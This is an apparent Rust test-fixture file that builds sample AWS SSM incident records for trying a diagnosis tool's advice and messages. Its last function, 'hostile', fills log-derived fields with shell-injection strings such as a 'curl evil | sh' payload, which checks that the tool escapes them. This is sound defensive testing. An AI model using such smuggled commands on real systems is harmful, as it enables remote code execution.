//! Incidents to try the advice and the messages on.

use std::collections::BTreeMap;

use jiff::Timestamp;

use crate::cause::{Cause, Confidence, Scope, ScopeKind};
use crate::diagnose::diagnosis::FaultState;
use crate::diagnose::facts::{
    Fetched, ImdsFacts, InstanceFacts, LaunchFacts, ProfileRef, RoleFacts,
};
use crate::finding::{ErrorDetails, Evidence, SignatureCount};
use crate::incident::group::{AffectedNode, Incident};
use crate::node::{AccountId, IdSource, InstanceId, Node, NodeId, Region};
use crate::repair::outcome::{Outcome, OutcomeStatus};

pub(crate) const INSTANCE: &str = "i-0123456789abcdef0";

pub(crate) fn at(text: &str) -> Timestamp {
    text.parse().expect("a timestamp")
}

pub(crate) fn node(id: &str, region: &str) -> Node {
    Node {
        id: NodeId::parse(id).unwrap_or(NodeId::Unknown(id.into())),
        id_source: IdSource::Stream,
        account: AccountId::parse("123456789012"),
        region: Region::parse(region),
    }
}

/// Nothing was repaired, and no repair was kept back.
pub(crate) fn nothing_done() -> Outcome {
    Outcome {
        status: OutcomeStatus::None,
        detail: None,
        command: None,
        request: None,
        checks_again: None,
        undo: None,
    }
}

/// One instance with everything known about it.
pub(crate) fn incident(cause: Cause) -> Incident {
    in_region(cause, "eu-central-1")
}

pub(crate) fn in_region(cause: Cause, region: &str) -> Incident {
    let scope = Scope {
        kind: cause.scope_kind(),
        id: match cause.scope_kind() {
            ScopeKind::Role => "MySSMRole",
            ScopeKind::ServiceInSubnet => "ssm/subnet-0a1b2c3d4e5f60718",
            ScopeKind::AccountRegion => "123456789012/eu-central-1",
            ScopeKind::AccountRegionApi => "123456789012/eu-central-1/UpdateInstanceInformation",
            ScopeKind::VpcEndpoint | ScopeKind::Vpc => "vpc-0a1b2c3d4e5f60718",
            ScopeKind::Policy => "p-1a2b3c4d",
            ScopeKind::Template => "0a1b2c3d4e5f",
            ScopeKind::Nodes => "123456789012/eu-central-1",
            ScopeKind::Instance | ScopeKind::ServiceOnNode | ScopeKind::Node => INSTANCE,
        }
        .to_owned(),
    };
    let last = at("2026-11-23T04:19:04Z");
    Incident {
        key: format!("123456789012/{region}/{cause}/{}:{}", scope.kind, scope.id),
        cause,
        candidates: vec![cause],
        scope,
        severity: cause.severity(),
        confidence: Confidence::Likely,
        fault_state: FaultState::Active,
        title: format!("{cause} on instance {INSTANCE}"),
        detail: None,
        affected: vec![hit(INSTANCE, region, cause)],
        signatures: vec![SignatureCount {
            id: "a-signature".into(),
            count: 3,
            first: last,
            last,
        }],
        evidence: vec![Evidence {
            at: last,
            level: crate::record::Level::Error,
            component: "EC2Identity".to_owned(),
            text: "Failed to get instance info from IMDS.".to_owned(),
            place: None,
        }],
        error_details: ErrorDetails {
            service: Some("ssm".to_owned()),
            action: Some("ssm:UpdateInstanceInformation".to_owned()),
            ..ErrorDetails::default()
        },
        checks: Vec::new(),
        first: last,
        last,
        retry_in_seconds: None,
        fresh: true,
        instances: vec![InstanceFacts {
            imds_defaults: None,
            name: None,
            launch: LaunchFacts::default(),
            id: InstanceId::parse(INSTANCE).expect("an instance id"),
            state: "running".to_owned(),
            imds: Some(ImdsFacts {
                endpoint_enabled: false,
                tokens_required: true,
                hop_limit: Some(2),
                pending: false,
            }),
            profile: Some(ProfileRef {
                name: "MyProfile".to_owned(),
                arn: "arn:aws:iam::123456789012:instance-profile/MyProfile".to_owned(),
                id: "AIPAEXAMPLE".to_owned(),
            }),
            tags: BTreeMap::new(),
            managed_by: None,
            launched_at: None,
            vpc: Some("vpc-0a1b2c3d4e5f60718".to_owned()),
            subnet: Some("subnet-0a1b2c3d4e5f60718".to_owned()),
            network: Default::default(),
        }],
        role: Some(RoleFacts {
            name: "MySSMRole".to_owned(),
            arn: "arn:aws:iam::123456789012:role/MySSMRole".to_owned(),
            path: "/".to_owned(),
            trust_policy: "{}".to_owned(),
            tags: Fetched::Found(BTreeMap::new()),
            boundary: None,
        }),
        role_arn: None,
    }
}

pub(crate) fn hit(id: &str, region: &str, cause: Cause) -> AffectedNode {
    AffectedNode {
        node: node(id, region),
        first: at("2026-11-23T04:19:04Z"),
        last: at("2026-11-23T04:19:04Z"),
        confirmed: false,
        log_candidates: vec![cause],
    }
}

pub(crate) fn on_hybrid_node(cause: Cause) -> Incident {
    let mut incident = incident(cause);
    incident.affected = vec![hit("mi-0123456789abcdef0", "eu-central-1", cause)];
    incident.scope = Scope {
        kind: ScopeKind::Node,
        id: "mi-0123456789abcdef0".to_owned(),
    };
    incident.key = format!("123456789012/eu-central-1/{cause}/node:mi-0123456789abcdef0");
    incident.instances.clear();
    incident.role = None;
    incident
}

pub(crate) fn on_unknown_node(cause: Cause) -> Incident {
    let mut incident = on_hybrid_node(cause);
    incident.affected = vec![hit("app/web-7.log", "", cause)];
    incident.affected[0].node.account = None;
    incident
}

pub(crate) fn undetermined(candidates: &[Cause]) -> Incident {
    let mut incident = incident(candidates[0]);
    incident.candidates = candidates.to_vec();
    incident.confidence = Confidence::Undetermined;
    incident
}

/// Every value that log text fills tries to leave its place in a command.
pub(crate) fn hostile(cause: Cause) -> Incident {
    let evil = || Some("x'; curl evil | sh #\n$(evil)".to_owned());
    let mut incident = on_unknown_node(cause);
    incident.affected[0].node.id = NodeId::Unknown("i-0'; evil".into());
    incident.scope = Scope {
        kind: cause.scope_kind(),
        id: "x'; evil".to_owned(),
    };
    incident.error_details = ErrorDetails {
        service: evil(),
        host: evil(),
        action: evil(),
        role: evil(),
        resource: evil(),
        code: evil(),
        agent_version: evil(),
        template: evil(),
        ..ErrorDetails::default()
    };
    incident
}
